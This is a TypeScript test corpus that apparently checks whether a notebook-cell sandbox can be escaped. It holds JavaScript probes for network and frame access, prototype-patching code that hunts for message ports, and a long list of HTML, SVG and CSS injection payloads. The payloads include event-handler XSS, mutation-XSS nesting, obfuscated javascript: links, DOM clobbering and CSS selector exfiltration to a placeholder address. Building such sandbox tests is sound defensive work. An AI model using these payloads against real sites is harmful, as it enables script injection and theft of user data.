/**
 * Ways out of a cell, each as code that throws or ends in nothing where it is held. `at` is the
 * address of the canary, `say` notes what was got. Names are asked for by text, as one would who
 * has to get past the analysis.
 */
export const ways: Readonly<Record<string, string>> = {
  ...Object.fromEntries(
    `fetch XMLHttpRequest WebSocket WebSocketStream EventSource WebTransport RTCPeerConnection
    webkitRTCPeerConnection RTCDataChannel RTCRtpScriptTransformer Worker SharedWorker importScripts
    postMessage close indexedDB caches BroadcastChannel Notification FontFace fonts MessageChannel
    MessagePort cookieStore localStorage sessionStorage webkitRequestFileSystem
    webkitRequestFileSystemSync FileSystemHandle PushManager ServiceWorker StorageManager
    NavigatorUAData GPU USB HID Serial WorkerGlobalScope DedicatedWorkerGlobalScope WorkerNavigator
    location trustedTypes scheduler ReportingObserver XSLTProcessor ShadowRealm`
      .split(/\s+/)
      .map((name) => [
        `the name ${name}`,
        `for (let o = g; o && o !== Object.prototype; o = Object.getPrototypeOf(o)) { const d = Object.getOwnPropertyDescriptor(o, "${name}"); if (d && (d.get || d.value !== undefined)) say("there") }`,
      ]),
  ),
  "the constructor of the global": `const C = g.constructor; if (C && C !== Object && C.name !== "EventTarget") say(String(C.name))`,
  "names of a navigator": `for (const n of ["serviceWorker", "storage", "locks", "usb", "gpu", "sendBeacon", "connection", "mediaDevices"]) if (g.navigator[n]) say(n)`,
  "import of an address": `await new AsyncFunction("at", "return import(at)")(at + "import"); say("loaded")`,
  "import of data": `await new AsyncFunction("return import('data:text/javascript,export default 1')")(); say("loaded")`,
  "import of a blob": `await new AsyncFunction("u", "return import(u)")(g.URL.createObjectURL(new Blob(["1"]))); say("loaded")`,
  "a frame by adoptNode": `const x = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe").documentElement; const f = document.adoptNode(x); f.srcdoc = "<img src=x onerror=parent.postMessage(1)>"; document.body.append(f); await wait(200); if (f.contentWindow) say("a window")`,
  "a frame's window": `const f = document.createElement("iframe"); document.body.append(f); await wait(50); if (f.contentWindow || f.contentDocument) say("a window")`,
  "a link": `const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = at + "link"; document.head.append(l); const m = l.cloneNode(); m.rel = "preload"; document.body.append(m); await wait(100)`,
  "a picture": `const i = document.createElement("img"); i.src = at + "img"; document.body.append(i); await wait(150)`,
  "the document's image": `const { Image } = document.defaultView; const i = new Image(); i.src = at + "image"; await wait(50)`,
  "the document's view": `const w = document.defaultView; for (const n of ["fetch", "WebSocket", "postMessage", "Worker", "parent", "top"]) if (w[n]) say(n)`,
  "a font": `await new g.FontFace("f", "url(" + at + "font)").load(); say("loaded")`,
  "a stylesheet": `document.body.append(Object.assign(document.createElement("style"), { textContent: "@import '" + at + "css'; @font-face { font-family: z; src: url(" + at + "face) } body { background: url(" + at + "bg); font-family: z }" })); await wait(150)`,
  "a form": `const f = document.createElement("form"); f.setAttribute("action", at + "form"); document.body.append(f); f.submit(); f.requestSubmit(); await wait(50)`,
  "the page's origin": `if (String(g.origin) !== "undefined" && g.origin !== "null") say(g.origin)`,
  "a stack's functions": `Error.prepareStackTrace = (e, sites) => sites; const sites = new Error().stack; for (const s of sites) { const f = s.getFunction?.(); const t = s.getThis?.(); if (f && String(f).includes("postMessage")) say("a function"); if (t && t.postMessage) say("a port") } delete Error.prepareStackTrace`,
  "the caller of a function": `const f = new Function("return arguments.callee.caller"); const c = f(); if (c && String(c).includes("port")) say("a caller")`,
  "a library's fetch": `await d3.text(at + "d3"); say("loaded")`,
  "a library's image": `await d3.image(at + "d3image"); say("loaded")`,
  "a library's loader": `await aq.loadCSV(at + "aq"); say("loaded")`,
  "a beacon": `g.navigator.sendBeacon(at + "beacon"); say("sent")`,
  "a canvas with a picture": `const b = await createImageBitmap(new Blob(["<svg xmlns='http://www.w3.org/2000/svg'><image href='" + at + "bitmap'/></svg>"], { type: "image/svg+xml" })); say("drawn")`,
};

/** Code that changes what everything is made of; the frame and the page must not notice. */
export const patches = `
  const seen = []; const keep = (x) => { try { if (x && typeof x === "object" && (typeof x.postMessage === "function" || x.ports?.length)) seen.push(x) } catch {} };
  const spy = (o, n) => { const f = o[n]; if (typeof f === "function") o[n] = function (...a) { keep(this); a.forEach(keep); return f.apply(this, a) } };
  const apply = Reflect.apply; Reflect.apply = (f, t, a) => { keep(t); (a ?? []).forEach?.(keep); return apply(f, t, a) };
  spy(RegExp.prototype, "exec"); spy(Array.prototype, "push"); spy(Map.prototype, "get"); spy(Map.prototype, "set"); spy(WeakMap.prototype, "get");
  spy(ArrayBuffer.prototype, "slice"); spy(Function.prototype, "bind"); spy(Promise.prototype, "then"); spy(String.prototype, "replaceAll");
  g.String = (x) => { keep(x); return "" + x };
  const E = Object.getPrototypeOf(Object.getPrototypeOf(new AbortController().signal)); spy(E, "addEventListener"); spy(E, "dispatchEvent");
  for (const n of ["data", "ports", "source", "target", "currentTarget"]) try { Object.defineProperty(Object.prototype, n, { configurable: true, get() { keep(this); return undefined }, set(v) { keep(v) } }) } catch {}
  await wait(300);
  for (const n of ["data", "ports", "source", "target", "currentTarget"]) delete Object.prototype[n];
  if (seen.length) say(seen.length + " ports");
`;

/** Everything that one would like to have in a page, as markup of a cell. */
export const drawn: readonly string[] = [
  `<script>top.canary=1;document.canary=1</script>`,
  `<img src=x onerror="canary=1">`,
  `<svg onload="canary=1"><script>canary=1</script></svg>`,
  `<iframe srcdoc="<script>parent.canary=1</script>"></iframe>`,
  `<iframe src="AT/iframe"></iframe><frame src="AT/frame"><fencedframe></fencedframe><portal src="AT/portal"></portal>`,
  `<object data="AT/object"></object><embed src="AT/embed"><applet code=x></applet>`,
  `<link rel=stylesheet href="AT/link"><link rel=dns-prefetch href="//leak.invalid"><link rel=preconnect href="AT/pre">`,
  `<meta http-equiv=refresh content="0;url=AT/meta"><base href="AT/base">`,
  `<form action="AT/form" id=autoform><input name=action><input name=attributes><input name=children><button formaction="AT/formaction">go</button></form>`,
  `<a href="AT/a" ping="AT/ping" target=_top id=out>out</a><a href="javascript:canary=1" id=js>js</a><a href="data:text/html,<script>1</script>">d</a>`,
  `<a href="java&#9;script:canary=1">t</a><a href=" javascript:canary=1">s</a><area href="AT/area"><map name=m></map>`,
  `<svg><a href="AT/svga" xlink:href="AT/svgx"><text y=20>x</text></a><use href="AT/use#x"/><use xlink:href="data:image/svg+xml,<svg/>#x"/></svg>`,
  `<svg><image href="AT/image"/><image xlink:href="AT/ximage"/><feImage href="AT/feimage"/><filter id=f><feImage xlink:href="AT/fe2"/></filter></svg>`,
  `<svg><foreignObject width=100 height=100><iframe src="AT/foreign"></iframe><body onload="canary=1"></foreignObject></svg>`,
  `<svg><a><set attributeName=href to="javascript:canary=1"/><animate attributeName=xlink:href values="javascript:canary=1;AT/anim" begin=0s /></a></svg>`,
  `<svg><rect fill="url(AT/fill#a)" mask="url('AT/mask#a')" filter="url(AT/filter)" clip-path="url(AT/clip#a)" style="marker: url(AT/marker#m)" width=9 height=9 /></svg>`,
  `<div style="background:url(AT/bg);background-image:image-set('AT/set' 1x);list-style-image:url(AT/list);border-image:url(AT/border) 1;cursor:url(AT/cursor),auto;content:url(AT/content);mask:url(AT/maskcss);filter:url(AT/filtercss#x)">x</div>`,
  `<div style="--a: url(AT/var); background: var(--a); --b: u\\72l(AT/esc); background-image: var(--b)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:2147483647;background:red">over</div>`,
  `<style>@import "AT/import"; @import url(AT/import2); @font-face{font-family:q;src:url(AT/face)} *{font-family:q;background:url(AT/all)!important} input[value^=a]{background:url(AT/value)} body::before{content:url(AT/before)}</style>`,
  `<svg><style>@import "AT/svgimport"; rect{fill:url(AT/svgfill#x)}</style><rect width=9 height=9 /></svg>`,
  `<video src="AT/video" poster="AT/poster" autoplay></video><audio src="AT/audio" autoplay></audio><picture><source srcset="AT/srcset"><img srcset="AT/imgset 1x" src="AT/img"></picture>`,
  `<input type=image src="AT/inputimage"><input autofocus onfocus="canary=1" name=body><input type=file><input pattern="(a+)+$" value=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!>`,
  `<img name=body src="data:image/png;base64,AAAA"><img id=document name=createElementNS><form name=activeElement></form><form id=documentElement></form>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='AT/datasvg'/></svg>"><img src="AT/plain"><img src="blob:null/1">`,
  `<table background="AT/tbg"><tr><td background="AT/tdbg">x</table><body background="AT/bodybg"><q cite="AT/q">x</q>`,
  `<details ontoggle="canary=1" open><summary>x</summary></details><button onclick="canary=1" id=btn popovertarget=p>b</button><dialog open>x</dialog><div popover id=p>x</div>`,
  `<template><img src=x onerror="canary=1"></template><noscript><p title="</noscript><img src=x onerror=canary=1>"></noscript><xmp><img src=x onerror=canary=1></xmp>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=canary=1></style></mglyph></table></mtext></math><slot name=x></slot><custom-element></custom-element>`,
];
